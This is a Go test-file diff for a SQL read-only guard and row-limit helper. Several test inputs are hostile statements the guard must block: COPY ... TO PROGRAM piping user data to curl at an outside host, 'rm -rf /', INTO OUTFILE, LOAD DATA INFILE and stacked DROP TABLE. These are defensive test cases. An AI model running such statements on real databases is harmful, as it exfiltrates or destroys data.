@@ -1,6 +1,11 @@
 package dbquery
 
-import "testing"
+import (
+	"errors"
+	"reflect"
+	"strings"
+	"testing"
+)
 
 func TestEnsureReadOnlySQL(t *testing.T) {
 	tests := []struct {
@@ -12,6 +17,21 @@ func TestEnsureReadOnlySQL(t *testing.T) {
 		{name: "cte ok", query: "WITH recent AS (SELECT * FROM users) SELECT * FROM recent", wantErr: false},
 		{name: "update blocked", query: "UPDATE users SET active = false", wantErr: true},
 		{name: "delete blocked", query: "DELETE FROM users", wantErr: true},
+		{name: "recursive cte ok", query: "WITH RECURSIVE tree(id, parent_id) AS (SELECT id, parent_id FROM nodes WHERE parent_id IS NULL UNION ALL SELECT n.id, n.parent_id FROM nodes n JOIN tree t ON n.parent_id = t.id) SELECT * FROM tree", wantErr: false},
+		{name: "materialized cte ok", query: "WITH x AS MATERIALIZED (SELECT 1 AS n) SELECT n FROM x", wantErr: false},
+		{name: "writable cte blocked", query: "WITH moved AS (DELETE FROM jobs WHERE done RETURNING *) SELECT * FROM moved", wantErr: true},
+		{name: "writable cte insert blocked", query: "with x as (insert into audit (id) values (1) returning id) select * from x", wantErr: true},
+		{name: "cte followed by update blocked", query: "WITH stale AS (SELECT id FROM users) UPDATE users SET active = false WHERE id IN (SELECT id FROM stale)", wantErr: true},
+		{name: "copy from blocked", query: "COPY users FROM '/tmp/users.csv' WITH (FORMAT csv)", wantErr: true},
+		{name: "copy after select blocked", query: "SELECT 1; COPY users TO '/tmp/users.csv'", wantErr: true},
+		{name: "copy to program blocked", query: "SELECT 1; COPY (SELECT * FROM users) TO PROGRAM 'curl -d @- example.com'", wantErr: true},
+		{name: "load data blocked", query: "LOAD DATA INFILE '/var/lib/mysql-files/users.csv' INTO TABLE users", wantErr: true},
+		{name: "load data local after select blocked", query: "select 1; load data local infile 'users.csv' into table users", wantErr: true},
+		{name: "select into table blocked", query: "SELECT * INTO new_users FROM users", wantErr: true},
+		{name: "select into temp table blocked", query: "select id into temp table recent from users", wantErr: true},
+		{name: "select into outfile blocked", query: "SELECT * FROM users INTO OUTFILE '/tmp/users.csv'", wantErr: true},
+		{name: "select into variable ok", query: "SELECT id INTO @uid FROM users LIMIT 1", wantErr: false},
+		{name: "into inside string ok", query: "SELECT * FROM notes WHERE body = 'dig into it'", wantErr: false},
 	}
 
 	for _, tt := range tests {
@@ -28,18 +48,311 @@ func TestEnsureReadOnlySQL(t *testing.T) {
 }
 
 func TestEnsureLimit(t *testing.T) {
-	q := ensureLimit("SELECT * FROM users", 10)
+	q := ensureLimit("SELECT * FROM users", 10, "sqlite")
 	if q != "SELECT * FROM users LIMIT 10;" {
 		t.Fatalf("unexpected limited query: %q", q)
 	}
 
-	q = ensureLimit("SELECT * FROM users LIMIT 5", 10)
+	q = ensureLimit("SELECT * FROM users LIMIT 5", 10, "sqlite")
 	if q != "SELECT * FROM users LIMIT 5" {
 		t.Fatalf("existing limit should be preserved, got %q", q)
 	}
 
-	q = ensureLimit("UPDATE users SET active = true", 10)
+	q = ensureLimit("UPDATE users SET active = true", 10, "sqlite")
 	if q != "UPDATE users SET active = true" {
 		t.Fatalf("non-select query should not be modified, got %q", q)
 	}
 }
+
+func TestIsWriteStatement(t *testing.T) {
+	tests := []struct {
+		query string
+		want  bool
+	}{
+		{query: "SELECT * FROM users", want: false},
+		{query: "  -- comment\nWITH x AS (SELECT 1) SELECT * FROM x", want: false},
+		{query: "(SELECT 1) UNION (SELECT 2)", want: false},
+		{query: "PRAGMA table_info(users)", want: false},
+		{query: "INSERT INTO users (email) VALUES ('a')", want: true},
+		{query: "update users set active = 1", want: true},
+		{query: "/* cleanup */ DELETE FROM users", want: true},
+		{query: "COPY users FROM STDIN", want: true},
+		{query: "LOAD DATA INFILE 'users.csv' INTO TABLE users", want: true},
+		{query: "", want: false},
+	}
+
+	for _, tt := range tests {
+		if got := isWriteStatement(tt.query); got != tt.want {
+			t.Fatalf("isWriteStatement(%q) = %v, want %v", tt.query, got, tt.want)
+		}
+	}
+}
+
+func TestEnsureLimitSkipsSingleRowQueries(t *testing.T) {
+	tests := []struct {
+		name  string
+		query string
+		want  string
+	}{
+		{name: "count star", query: "SELECT count(*) FROM users", want: "SELECT count(*) FROM users"},
+		{name: "aliased max", query: "SELECT max(created_at) AS latest FROM users WHERE active = 1", want: "SELECT max(created_at) AS latest FROM users WHERE active = 1"},
+		{name: "multiple aggregates", query: "SELECT count(*), sum(total) total FROM orders", want: "SELECT count(*), sum(total) total FROM orders"},
+		{name: "select constant", query: "SELECT 1", want: "SELECT 1"},
+		{name: "grouped aggregate", query: "SELECT user_id, count(*) FROM orders GROUP BY user_id", want: "SELECT user_id, count(*) FROM orders GROUP BY user_id LIMIT 10;"},
+		{name: "aggregate with plain column", query: "SELECT status, count(*) FROM orders", want: "SELECT status, count(*) FROM orders LIMIT 10;"},
+		{name: "window aggregate", query: "SELECT count(*) OVER () FROM orders", want: "SELECT count(*) OVER () FROM orders LIMIT 10;"},
+		{name: "union of constants", query: "SELECT 1 UNION SELECT 2", want: "SELECT 1 UNION SELECT 2 LIMIT 10;"},
+		{name: "aggregate arithmetic", query: "SELECT count(*) * 2 FROM users", want: "SELECT count(*) * 2 FROM users LIMIT 10;"},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if got := ensureLimit(tt.query, 10, "sqlite"); got != tt.want {
+				t.Fatalf("ensureLimit(%q) = %q, want %q", tt.query, got, tt.want)
+			}
+		})
+	}
+}
+
+func TestEnsureLimitDialects(t *testing.T) {
+	tests := []struct {
+		name    string
+		dialect string
+		query   string
+		want    string
+	}{
+		{name: "sqlite", dialect: "sqlite", query: "SELECT * FROM users", want: "SELECT * FROM users LIMIT 10;"},
+		{name: "postgres", dialect: "postgres", query: "SELECT * FROM users ORDER BY id;", want: "SELECT * FROM users ORDER BY id LIMIT 10;"},
+		{name: "mysql", dialect: "mysql", query: "SELECT * FROM users", want: "SELECT * FROM users LIMIT 10;"},
+		{name: "postgres fetch first kept", dialect: "postgres", query: "SELECT * FROM users FETCH FIRST 5 ROWS ONLY", want: "SELECT * FROM users FETCH FIRST 5 ROWS ONLY"},
+		{name: "sqlserver top", dialect: "sqlserver", query: "SELECT name FROM users WHERE active = 1", want: "SELECT TOP (10) name FROM users WHERE active = 1;"},
+		{name: "sqlserver distinct top", dialect: "sqlserver", query: "select distinct name from users;", want: "select distinct TOP (10) name from users;"},
+		{name: "sqlserver keeps comments", dialect: "sqlserver", query: "-- active users\nSELECT * FROM users", want: "-- active users\nSELECT TOP (10) * FROM users;"},
+		{name: "sqlserver order by", dialect: "sqlserver", query: "SELECT * FROM users ORDER BY created_at DESC", want: "SELECT * FROM users ORDER BY created_at DESC OFFSET 0 ROWS FETCH NEXT 10 ROWS ONLY;"},
+		{name: "sqlserver cte", dialect: "sqlserver", query: "WITH a AS (SELECT id FROM users ORDER BY id OFFSET 0 ROWS) SELECT * FROM a", want: "WITH a AS (SELECT id FROM users ORDER BY id OFFSET 0 ROWS) SELECT * FROM a ORDER BY (SELECT NULL) OFFSET 0 ROWS FETCH NEXT 10 ROWS ONLY;"},
+		{name: "sqlserver union", dialect: "sqlserver", query: "SELECT id FROM a UNION SELECT id FROM b", want: "SELECT id FROM a UNION SELECT id FROM b ORDER BY (SELECT NULL) OFFSET 0 ROWS FETCH NEXT 10 ROWS ONLY;"},
+		{name: "sqlserver top kept", dialect: "sqlserver", query: "SELECT TOP 5 * FROM users", want: "SELECT TOP 5 * FROM users"},
+		{name: "sqlserver fetch kept", dialect: "sqlserver", query: "SELECT * FROM users ORDER BY id OFFSET 0 ROWS FETCH NEXT 3 ROWS ONLY", want: "SELECT * FROM users ORDER BY id OFFSET 0 ROWS FETCH NEXT 3 ROWS ONLY"},
+		{name: "sqlserver aggregate", dialect: "sqlserver", query: "SELECT count(*) FROM users", want: "SELECT count(*) FROM users"},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if got := ensureLimit(tt.query, 10, tt.dialect); got != tt.want {
+				t.Fatalf("ensureLimit(%q, %s) = %q, want %q", tt.query, tt.dialect, got, tt.want)
+			}
+		})
+	}
+}
+
+func TestEnsureReadOnlySQLWritableCTEMessage(t *testing.T) {
+	err := ensureReadOnlySQL("WITH moved AS (DELETE FROM jobs RETURNING *) SELECT * FROM moved")
+	if err == nil || !strings.Contains(err.Error(), "data-modifying CTE") {
+		t.Fatalf("expected data-modifying CTE error, got %v", err)
+	}
+}
+
+func TestExplainReadOnlyRejection(t *testing.T) {
+	tests := []struct {
+		query string
+		want  string
+	}{
+		{
+			query: "SELECT id, status FROM orders WHERE status = 'delete'",
+			want:  "blocked: write keyword 'delete' at position 47: `... FROM orders WHERE status = 'delete'`",
+		},
+		{
+			query: "-- cleanup\nUPDATE users SET active = false",
+			want:  "blocked: statement starts with 'update', not SELECT/WITH/EXPLAIN SELECT at position 12: `UPDATE users SET active = false`",
+		},
+		{
+			query: "WITH moved AS (DELETE FROM jobs RETURNING *) SELECT * FROM moved",
+			want:  "blocked: data-modifying CTE keyword 'delete' at position 16: `WITH moved AS (DELETE FROM jobs RETURNING *) ...`",
+		},
+		{
+			query: "WITH ids AS (SELECT id FROM jobs) DELETE FROM jobs WHERE id IN (SELECT id FROM ids)",
+			want:  "blocked: 'delete' runs after WITH at position 35: `... ids AS (SELECT id FROM jobs) DELETE FROM jobs WHERE id IN ...`",
+		},
+		{
+			query: "SELECT * FROM users INTO OUTFILE '/tmp/users.csv'",
+			want:  "blocked: SELECT ... INTO OUTFILE writes a server file at position 21: `SELECT * FROM users INTO OUTFILE '/tmp/users.csv'`",
+		},
+		{
+			query: "WITH recent AS (SELECT id FROM jobs) SELECT * FROM recent",
+		},
+	}
+
+	for _, tt := range tests {
+		if got := explainReadOnlyRejection(tt.query, forbiddenWritePattern); got != tt.want {
+			t.Fatalf("explainReadOnlyRejection(%q)\n got: %s\nwant: %s", tt.query, got, tt.want)
+		}
+		if err := ensureReadOnlySQLWith(tt.query, forbiddenWritePattern); (err == nil) != (tt.want == "") {
+			t.Fatalf("ensureReadOnlySQLWith(%q) = %v, disagreeing with the explanation %q", tt.query, err, tt.want)
+		}
+	}
+
+	err := checkReadOnlySQL("SELECT 1; DROP TABLE users", forbiddenWritePattern, true)
+	if !errors.Is(err, ErrReadOnlyViolation) || !strings.Contains(err.Error(), "blocked: write keyword 'drop'") {
+		t.Fatalf("expected explained read-only violation, got %v", err)
+	}
+	if err := checkReadOnlySQL("SELECT 1; DROP TABLE users", forbiddenWritePattern, false); strings.Contains(err.Error(), "blocked:") {
+		t.Fatalf("expected no explanation without the flag, got %v", err)
+	}
+}
+
+func TestForbiddenKeywordPattern(t *testing.T) {
+	if forbiddenKeywordPattern(nil, nil) != forbiddenWritePattern {
+		t.Fatal("expected the default pattern without overrides")
+	}
+
+	copyAllowed := forbiddenKeywordPattern(nil, []string{"copy"})
+	if err := checkReadOnlySQL("SELECT 1; COPY users TO PROGRAM 'rm -rf /'", copyAllowed, false); !errors.Is(err, ErrReadOnlyViolation) {
+		t.Fatalf("expected COPY ... TO PROGRAM to stay blocked with copy allowed, got %v", err)
+	}
+	if got := explainReadOnlyRejection("SELECT 1; COPY users TO PROGRAM 'gzip > /tmp/u.gz'", copyAllowed); !strings.Contains(got, "server file/program access 'to program' at position 22") {
+		t.Fatalf("unexpected explanation: %s", got)
+	}
+
+	pattern := forbiddenKeywordPattern([]string{"VACUUM", "analyze"}, []string{"replace"})
+	if err := checkReadOnlySQL("SELECT replace(name, 'a', 'b') FROM users", pattern, false); err != nil {
+		t.Fatalf("expected allowed keyword to pass, got %v", err)
+	}
+	if err := checkReadOnlySQL("SELECT 1; VACUUM users", pattern, false); !errors.Is(err, ErrReadOnlyViolation) {
+		t.Fatalf("expected denied keyword to be rejected, got %v", err)
+	}
+	if err := checkReadOnlySQL("SELECT 1; DROP TABLE users", pattern, false); !errors.Is(err, ErrReadOnlyViolation) {
+		t.Fatalf("expected default keywords to stay forbidden, got %v", err)
+	}
+
+	if err := validateKeywordList("--deny-keywords", []string{"copy", "drop table"}, false); err == nil {
+		t.Fatal("expected error for a multi-word keyword")
+	}
+	if err := validateKeywordList("--allow-keywords", []string{"select"}, true); err == nil {
+		t.Fatal("expected error for allowing a keyword outside the default set")
+	}
+}
+
+func TestReferencedTables(t *testing.T) {
+	tests := []struct {
+		query string
+		want  []string
+	}{
+		{query: "SELECT * FROM users LIMIT 10", want: []string{"users"}},
+		{query: `SELECT o.id FROM public.orders o JOIN "Users" u ON u.id = o.user_id JOIN public.orders p ON true`, want: []string{"public.orders", "Users"}},
+		{query: "WITH recent AS (SELECT * FROM orders) SELECT * FROM recent", want: []string{"orders"}},
+		{query: "SELECT * FROM (SELECT 1) t", want: []string{}},
+		{query: "SELECT EXTRACT(YEAR FROM created_at), TRIM(BOTH ' ' FROM name) FROM users WHERE note = 'sent from home'", want: []string{"users"}},
+		{query: "SELECT * FROM generate_series(1, 3) g JOIN t ON true", want: []string{"t"}},
+		{query: "INSERT INTO t (id) VALUES (1) ON CONFLICT (id) DO UPDATE SET id = 2", want: []string{"t"}},
+		{query: "SELECT * FROM a WHERE id IN (SELECT a_id FROM b)", want: []string{"a", "b"}},
+		{query: "SELECT * FROM a WHERE x IS DISTINCT FROM b", want: []string{"a"}},
+		{query: "SELECT * FROM a JOIN c ON a.id IS NOT DISTINCT\nFROM c.a_id", want: []string{"a", "c"}},
+		{query: "SELECT extract (epoch from created_at) FROM a WHERE EXTRACT(YEAR FROM (created_at)) = 2024", want: []string{"a"}},
+		{query: "SELECT * FROM a WHERE id IN (SELECT EXTRACT(MONTH FROM ts) FROM b)", want: []string{"a", "b"}},
+	}
+
+	for _, tt := range tests {
+		if got := referencedTables(tt.query); !reflect.DeepEqual(got, tt.want) {
+			t.Fatalf("referencedTables(%q) = %#v, want %#v", tt.query, got, tt.want)
+		}
+	}
+}
+
+func TestReturnsRows(t *testing.T) {
+	tests := map[string]bool{
+		"INSERT INTO t (id) VALUES (1) RETURNING id":         true,
+		"-- note\nDELETE FROM t WHERE done returning *":      true,
+		"UPDATE t SET note = 'returning soon' WHERE id = 1":  false,
+		"UPDATE t SET note = 'it''s returning' RETURNING id": true,
+		"DELETE FROM t": false,
+	}
+	for query, want := range tests {
+		if got := returnsRows(query); got != want {
+			t.Errorf("returnsRows(%q) = %v, want %v", query, got, want)
+		}
+	}
+}
+
+func TestLooksLikeSQL(t *testing.T) {
+	tests := map[string]bool{
+		"SELECT 1":                      true,
+		"  with x as (select 1) select": true,
+		"-- note\nUPDATE users SET a=1": true,
+		"":                              false,
+		"I'm sorry, I can't do that.":   false,
+		"Here is the query you asked":   false,
+	}
+	for in, want := range tests {
+		if got := looksLikeSQL(in); got != want {
+			t.Fatalf("looksLikeSQL(%q) = %v, want %v", in, got, want)
+		}
+	}
+}
+
+func TestEffectiveLimit(t *testing.T) {
+	tests := map[string]int{
+		"SELECT * FROM users LIMIT 10;":                                         10,
+		"select * from users limit 5 offset 20":                                 5,
+		"SELECT * FROM users":                                                   0,
+		"SELECT * FROM (SELECT * FROM t LIMIT 3) s WHERE id > 1":                0,
+		"SELECT TOP (25) * FROM users;":                                         25,
+		"SELECT * FROM users ORDER BY id OFFSET 0 ROWS FETCH NEXT 7 ROWS ONLY;": 7,
+	}
+	for in, want := range tests {
+		if got := effectiveLimit(in); got != want {
+			t.Fatalf("effectiveLimit(%q) = %d, want %d", in, got, want)
+		}
+	}
+}
+
+func TestWriteTargetTables(t *testing.T) {
+	tests := []struct {
+		query string
+		want  []string
+	}{
+		{query: "INSERT INTO staging_foo (id) SELECT id FROM users", want: []string{"staging_foo"}},
+		{query: "UPDATE public.scratch_bar SET n = 1 WHERE id IN (SELECT id FROM users)", want: []string{"public.scratch_bar"}},
+		{query: "DELETE FROM `scratch_bar` WHERE note = 'delete from users'", want: []string{"scratch_bar"}},
+		{query: "INSERT INTO t (id) VALUES (1) ON CONFLICT (id) DO UPDATE SET id = 2", want: []string{"t"}},
+		{query: "INSERT INTO t (id) VALUES (1) ON DUPLICATE KEY UPDATE id = 2", want: []string{"t"}},
+		{query: "WITH gone AS (DELETE FROM users RETURNING id) INSERT INTO archive SELECT * FROM gone", want: []string{"users", "archive"}},
+		{query: "DROP TABLE IF EXISTS tmp_x", want: []string{"tmp_x"}},
+		{query: "GRANT SELECT ON users TO bob", want: []string{}},
+	}
+
+	for _, tt := range tests {
+		if got := writeTargetTables(tt.query); !reflect.DeepEqual(got, tt.want) {
+			t.Fatalf("writeTargetTables(%q) = %#v, want %#v", tt.query, got, tt.want)
+		}
+	}
+}
+
+func TestEnsureWriteTablesAllowed(t *testing.T) {
+	allowed := []string{"staging_foo", "analytics.scratch_bar"}
+
+	for _, query := range []string{
+		"SELECT * FROM users",
+		"INSERT INTO staging_foo (id) SELECT id FROM users",
+		"UPDATE public.staging_foo SET n = 1",
+		"DELETE FROM analytics.scratch_bar",
+		"SELECT * INTO staging_foo FROM users",
+	} {
+		if err := ensureWriteTablesAllowed(query, allowed); err != nil {
+			t.Fatalf("expected %q to be allowed, got %v", query, err)
+		}
+	}
+
+	for _, query := range []string{
+		"DELETE FROM users",
+		"DELETE FROM scratch_bar",
+		"WITH gone AS (DELETE FROM users RETURNING id) INSERT INTO staging_foo SELECT id FROM gone",
+		"GRANT SELECT ON users TO bob",
+		"SELECT * INTO users_copy FROM users",
+		"SELECT * FROM users INTO OUTFILE '/tmp/users.csv'",
+	} {
+		err := ensureWriteTablesAllowed(query, allowed)
+		if err == nil || ExitCode(err) != ExitSafety {
+			t.Fatalf("expected %q to be rejected with a safety error, got %v", query, err)
+		}
+	}
+}